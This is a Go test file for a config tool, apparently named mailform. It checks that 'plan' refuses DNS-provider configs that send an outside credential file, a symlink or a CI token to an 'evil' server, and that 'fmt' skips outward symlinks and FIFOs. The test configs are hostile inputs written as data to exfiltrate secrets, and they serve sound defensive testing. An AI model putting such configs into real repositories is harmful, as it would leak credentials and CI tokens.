package main

import (
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"strings"
	"sync/atomic"
	"syscall"
	"testing"
)

// A pull request that points a DNS provider at its own server and its
// credential at a file outside the config, or at a variable of the CI
// job, gets an error at validation: nothing is sent anywhere, and neither
// the file's content nor the variable's value is printed.
func TestPlanSendsNothingOutside(t *testing.T) {
	var requests atomic.Int64
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		requests.Add(1)
		w.WriteHeader(http.StatusNotFound)
	}))
	defer srv.Close()
	t.Setenv("GITHUB_TOKEN", "ghp_0123456789secret")
	for name, apiKey := range map[string]string{
		"file outside": `file("../deploy.env")`,
		"link outside": `file("link")`,
		"CI variable":  `env("GITHUB_TOKEN")`,
	} {
		t.Run(name, func(t *testing.T) {
			parent := t.TempDir()
			os.WriteFile(filepath.Join(parent, "deploy.env"), []byte("sk-live-0123456789\n"), 0o600)
			dir := filepath.Join(parent, "config")
			os.MkdirAll(dir, 0o755)
			os.Symlink(filepath.Join(parent, "deploy.env"), filepath.Join(dir, "link"))
			b, _ := os.ReadFile("../../examples/quickstart/hcl/main.hcl")
			cfg := string(b) + `
dns_provider "evil" {
  type    = "powerdns"
  url     = "` + srv.URL + `"
  api_key = ` + apiKey + `
}
`
			os.WriteFile(filepath.Join(dir, "main.hcl"), []byte(strings.Replace(cfg, `dns = "local"`, `dns = "evil"`, 1)), 0o644)
			code, out, errOut := mailform(t, "plan", dir)
			if code != exitError || !strings.Contains(errOut, "main.hcl:") {
				t.Errorf("plan: exit %d\n%s%s", code, out, errOut)
			}
			for _, secret := range []string{"sk-live", "ghp_"} {
				if strings.Contains(out+errOut, secret) {
					t.Errorf("the output shows %s:\n%s%s", secret, out, errOut)
				}
			}
		})
	}
	if n := requests.Load(); n > 0 {
		t.Errorf("the server got %d requests", n)
	}
	// The same config with a credential it may read does reach the
	// server: the cases above were refused, not lost on the way.
	t.Setenv("MAILFORM_PDNS_KEY", "allowed")
	dir := t.TempDir()
	b, _ := os.ReadFile("../../examples/quickstart/hcl/main.hcl")
	cfg := strings.Replace(string(b), `dns = "local"`, `dns = "evil"`, 1) + "dns_provider \"evil\" {\n  type = \"powerdns\"\n  url = \"" + srv.URL + "\"\n  api_key = env(\"MAILFORM_PDNS_KEY\")\n}\n"
	os.WriteFile(filepath.Join(dir, "main.hcl"), []byte(cfg), 0o644)
	mailform(t, "plan", dir)
	if requests.Load() == 0 {
		t.Error("a plan with an allowed credential did not reach the server either")
	}
}

// fmt reads the config files as validate does: a link out of the
// directory is left alone and unread, a FIFO is refused without waiting.
func TestFmtReadsConfinedFiles(t *testing.T) {
	parent := t.TempDir()
	os.WriteFile(filepath.Join(parent, ".env"), []byte("API_KEY = \"sk-live-0123456789\"\n"), 0o600)
	dir := filepath.Join(parent, "config")
	os.MkdirAll(dir, 0o755)
	b, _ := os.ReadFile("../../examples/quickstart/hcl/main.hcl")
	os.WriteFile(filepath.Join(dir, "main.hcl"), b, 0o644)
	os.Symlink(filepath.Join(parent, ".env"), filepath.Join(dir, "env.hcl"))
	code, out, errOut := mailform(t, "fmt", "--check", dir)
	if code != 0 || strings.Contains(out+errOut, "sk-live") || !strings.Contains(errOut, "env.hcl: a link, left as it is") {
		t.Errorf("fmt with a link out: exit %d\n%s%s", code, out, errOut)
	}
	os.Remove(filepath.Join(dir, "env.hcl"))
	if err := syscall.Mkfifo(filepath.Join(dir, "x.hcl"), 0o644); err != nil {
		t.Fatal(err)
	}
	code, out, errOut = mailform(t, "fmt", dir)
	if code != exitError || !strings.Contains(errOut, "not a regular file") {
		t.Errorf("fmt with a FIFO: exit %d\n%s%s", code, out, errOut)
	}
}
